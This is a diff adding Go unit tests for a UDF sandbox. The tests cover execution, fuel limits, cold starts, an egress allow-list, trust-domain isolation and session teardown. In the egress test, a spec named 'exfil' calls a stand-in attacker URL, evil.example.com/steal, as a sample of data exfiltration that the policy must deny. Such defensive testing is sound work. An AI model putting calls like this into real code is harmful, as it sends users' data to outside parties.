@@ -1,0 +1,320 @@
+package sandbox
+
+import (
+	"errors"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"lakeguard/internal/types"
+)
+
+func argBatch(n int) *types.Batch {
+	schema := types.NewSchema(
+		types.Field{Name: "a", Kind: types.KindInt64},
+		types.Field{Name: "b", Kind: types.KindInt64},
+	)
+	bb := types.NewBatchBuilder(schema, n)
+	for i := 0; i < n; i++ {
+		bb.AppendRow([]types.Value{types.Int64(int64(i)), types.Int64(int64(i * 10))})
+	}
+	return bb.Build()
+}
+
+func sumSpec() UDFSpec {
+	return UDFSpec{
+		Name: "add", Body: "return a + b",
+		ArgNames: []string{"a", "b"}, ArgCols: []int{0, 1},
+		ResultKind: types.KindInt64,
+	}
+}
+
+func TestExecuteSimpleUDF(t *testing.T) {
+	sb := New("alice", Config{})
+	defer sb.Close()
+	out, err := sb.Execute(&Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(100)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if out.NumRows() != 100 || out.NumCols() != 1 {
+		t.Fatalf("shape %dx%d", out.NumRows(), out.NumCols())
+	}
+	for i := 0; i < 100; i++ {
+		if got := out.Cols[0].Int64(i); got != int64(i+i*10) {
+			t.Fatalf("row %d = %d", i, got)
+		}
+	}
+	if sb.Crossings() != 1 {
+		t.Errorf("crossings = %d", sb.Crossings())
+	}
+	if sb.RowsProcessed() != 100 {
+		t.Errorf("rows = %d", sb.RowsProcessed())
+	}
+}
+
+func TestFusedUDFsOneCrossing(t *testing.T) {
+	sb := New("alice", Config{})
+	defer sb.Close()
+	specs := []UDFSpec{
+		sumSpec(),
+		{Name: "diff", Body: "return b - a", ArgNames: []string{"a", "b"}, ArgCols: []int{0, 1}, ResultKind: types.KindInt64},
+		{Name: "hexa", Body: "return sha256(str(a))", ArgNames: []string{"a"}, ArgCols: []int{0}, ResultKind: types.KindString},
+	}
+	out, err := sb.Execute(&Request{Specs: specs, Args: argBatch(10)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if out.NumCols() != 3 {
+		t.Fatalf("cols = %d", out.NumCols())
+	}
+	if sb.Crossings() != 1 {
+		t.Errorf("fused execution should be one crossing, got %d", sb.Crossings())
+	}
+	if out.Cols[1].Int64(5) != 45 {
+		t.Errorf("diff wrong: %d", out.Cols[1].Int64(5))
+	}
+	if len(out.Cols[2].StringAt(0)) != 64 {
+		t.Error("sha256 result length wrong")
+	}
+}
+
+func TestUserCodeErrorSurfaced(t *testing.T) {
+	sb := New("alice", Config{})
+	defer sb.Close()
+	spec := UDFSpec{Name: "boom", Body: "return 1 / 0", ArgNames: nil, ArgCols: nil, ResultKind: types.KindFloat64}
+	_, err := sb.Execute(&Request{Specs: []UDFSpec{spec}, Args: argBatch(1)})
+	if err == nil || !strings.Contains(err.Error(), "division by zero") {
+		t.Fatalf("err = %v", err)
+	}
+	// Sandbox survives the failure and serves the next request.
+	if _, err := sb.Execute(&Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(1)}); err != nil {
+		t.Fatalf("sandbox dead after user error: %v", err)
+	}
+}
+
+func TestCompileErrorSurfaced(t *testing.T) {
+	sb := New("alice", Config{})
+	defer sb.Close()
+	spec := UDFSpec{Name: "bad", Body: "retrn x", ArgNames: nil, ArgCols: nil, ResultKind: types.KindInt64}
+	if _, err := sb.Execute(&Request{Specs: []UDFSpec{spec}, Args: argBatch(1)}); err == nil {
+		t.Fatal("expected compile error")
+	}
+}
+
+func TestFuelLimitEnforced(t *testing.T) {
+	sb := New("alice", Config{Fuel: 5_000})
+	defer sb.Close()
+	spec := UDFSpec{Name: "spin", Body: "while True:\n    x = 1", ResultKind: types.KindInt64}
+	_, err := sb.Execute(&Request{Specs: []UDFSpec{spec}, Args: argBatch(1)})
+	if err == nil || !strings.Contains(err.Error(), "budget") {
+		t.Fatalf("err = %v", err)
+	}
+}
+
+func TestColdStartDelay(t *testing.T) {
+	start := time.Now()
+	sb := New("alice", Config{ColdStart: 50 * time.Millisecond})
+	defer sb.Close()
+	if d := time.Since(start); d < 50*time.Millisecond {
+		t.Errorf("cold start took %v, want >= 50ms", d)
+	}
+	// Warm execution does not pay it again.
+	start = time.Now()
+	if _, err := sb.Execute(&Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(1)}); err != nil {
+		t.Fatal(err)
+	}
+	if d := time.Since(start); d > 25*time.Millisecond {
+		t.Errorf("warm execution took %v", d)
+	}
+}
+
+func TestEgressPolicy(t *testing.T) {
+	network := func(url string) (string, error) { return "pong:" + url, nil }
+	spec := UDFSpec{
+		Name: "call", Body: "return http_get('http://api.allowed.com/x')",
+		ResultKind: types.KindString,
+	}
+	denied := UDFSpec{
+		Name: "exfil", Body: "return http_get('http://evil.example.com/steal')",
+		ResultKind: types.KindString,
+	}
+
+	// No egress configured at all: everything fails closed.
+	sb0 := New("alice", Config{})
+	defer sb0.Close()
+	if _, err := sb0.Execute(&Request{Specs: []UDFSpec{spec}, Args: argBatch(1)}); err == nil {
+		t.Error("egress without policy should fail")
+	}
+
+	// Allow-listed host works; others are denied.
+	sb := New("alice", Config{Egress: EgressPolicy{AllowedHosts: []string{"api.allowed.com"}, Resolver: network}})
+	defer sb.Close()
+	out, err := sb.Execute(&Request{Specs: []UDFSpec{spec}, Args: argBatch(1)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.HasPrefix(out.Cols[0].StringAt(0), "pong:") {
+		t.Errorf("egress result = %q", out.Cols[0].StringAt(0))
+	}
+	if _, err := sb.Execute(&Request{Specs: []UDFSpec{denied}, Args: argBatch(1)}); err == nil || !strings.Contains(err.Error(), "denied") {
+		t.Errorf("err = %v", err)
+	}
+
+	// Wildcard allows all.
+	sbAll := New("alice", Config{Egress: EgressPolicy{AllowedHosts: []string{"*"}, Resolver: network}})
+	defer sbAll.Close()
+	if _, err := sbAll.Execute(&Request{Specs: []UDFSpec{denied}, Args: argBatch(1)}); err != nil {
+		t.Errorf("wildcard egress: %v", err)
+	}
+}
+
+func TestClosedSandbox(t *testing.T) {
+	sb := New("alice", Config{})
+	sb.Close()
+	if _, err := sb.Execute(&Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(1)}); !errors.Is(err, ErrSandboxClosed) {
+		t.Errorf("err = %v", err)
+	}
+	sb.Close() // double close fine
+}
+
+func TestBadSpecRejectedBeforeCrossing(t *testing.T) {
+	sb := New("alice", Config{})
+	defer sb.Close()
+	spec := sumSpec()
+	spec.ArgCols = []int{0, 99}
+	if _, err := sb.Execute(&Request{Specs: []UDFSpec{spec}, Args: argBatch(1)}); err == nil {
+		t.Error("expected column-range error")
+	}
+	spec2 := sumSpec()
+	spec2.ArgCols = []int{0}
+	if _, err := sb.Execute(&Request{Specs: []UDFSpec{spec2}, Args: argBatch(1)}); err == nil {
+		t.Error("expected arity error")
+	}
+	if sb.Crossings() != 0 {
+		t.Error("invalid requests must not cross the boundary")
+	}
+}
+
+func TestNullArgumentsAndResults(t *testing.T) {
+	schema := types.NewSchema(types.Field{Name: "x", Kind: types.KindString, Nullable: true})
+	bb := types.NewBatchBuilder(schema, 2)
+	bb.AppendRow([]types.Value{types.String("v")})
+	bb.AppendRow([]types.Value{types.Null(types.KindString)})
+	spec := UDFSpec{
+		Name: "passthrough", Body: "return None if is_null(x) else upper(x)",
+		ArgNames: []string{"x"}, ArgCols: []int{0}, ResultKind: types.KindString,
+	}
+	sb := New("alice", Config{})
+	defer sb.Close()
+	out, err := sb.Execute(&Request{Specs: []UDFSpec{spec}, Args: bb.Build()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if out.Cols[0].StringAt(0) != "V" || !out.Cols[0].IsNull(1) {
+		t.Error("null round trip wrong")
+	}
+}
+
+func TestDispatcherReuseAndTrustDomains(t *testing.T) {
+	var created []string
+	factory := FactoryFunc(func(domain string) (*Sandbox, error) {
+		created = append(created, domain)
+		return New(domain, Config{}), nil
+	})
+	d := NewDispatcher(factory)
+
+	sb1, err := d.Acquire("sess1", "alice")
+	if err != nil {
+		t.Fatal(err)
+	}
+	d.Release("sess1", sb1)
+	sb2, err := d.Acquire("sess1", "alice")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if sb1 != sb2 {
+		t.Error("warm sandbox not reused")
+	}
+	// Different trust domain: new sandbox.
+	sb3, _ := d.Acquire("sess1", "bob")
+	if sb3 == sb1 {
+		t.Error("trust domains shared a sandbox")
+	}
+	if sb3.TrustDomain != "bob" {
+		t.Error("wrong trust domain")
+	}
+	// Different session: new sandbox even for same domain.
+	sb4, _ := d.Acquire("sess2", "alice")
+	if sb4 == sb1 {
+		t.Error("sessions shared a sandbox")
+	}
+	st := d.Stats()
+	if st.ColdStarts != 3 || st.Reuses != 1 {
+		t.Errorf("stats = %+v", st)
+	}
+	if len(created) != 3 {
+		t.Errorf("created = %v", created)
+	}
+}
+
+func TestDispatcherEndSession(t *testing.T) {
+	d := NewDispatcher(FactoryFunc(func(domain string) (*Sandbox, error) {
+		return New(domain, Config{}), nil
+	}))
+	sb, _ := d.Acquire("sess1", "alice")
+	d.Release("sess1", sb)
+	d.EndSession("sess1")
+	if _, err := sb.Execute(&Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(1)}); !errors.Is(err, ErrSandboxClosed) {
+		t.Errorf("sandbox should be closed after EndSession: %v", err)
+	}
+	// A fresh acquire provisions again.
+	sb2, err := d.Acquire("sess1", "alice")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if sb2 == sb {
+		t.Error("closed sandbox returned")
+	}
+	if d.Stats().ColdStarts != 2 {
+		t.Errorf("stats = %+v", d.Stats())
+	}
+	// EndSession must not tear down other sessions ("sess1" vs "sess10").
+	sbA, _ := d.Acquire("sess10", "alice")
+	d.Release("sess10", sbA)
+	d.EndSession("sess1")
+	sbB, _ := d.Acquire("sess10", "alice")
+	if sbA != sbB {
+		t.Error("EndSession closed an unrelated session's sandbox")
+	}
+}
+
+func TestConcurrentExecutions(t *testing.T) {
+	sb := New("alice", Config{})
+	defer sb.Close()
+	var wg sync.WaitGroup
+	errs := make([]error, 8)
+	for i := 0; i < 8; i++ {
+		wg.Add(1)
+		go func(i int) {
+			defer wg.Done()
+			out, err := sb.Execute(&Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(50)})
+			if err != nil {
+				errs[i] = err
+				return
+			}
+			if out.Cols[0].Int64(49) != 49+490 {
+				errs[i] = errors.New("wrong result")
+			}
+		}(i)
+	}
+	wg.Wait()
+	for _, err := range errs {
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	if sb.Crossings() != 8 {
+		t.Errorf("crossings = %d", sb.Crossings())
+	}
+}
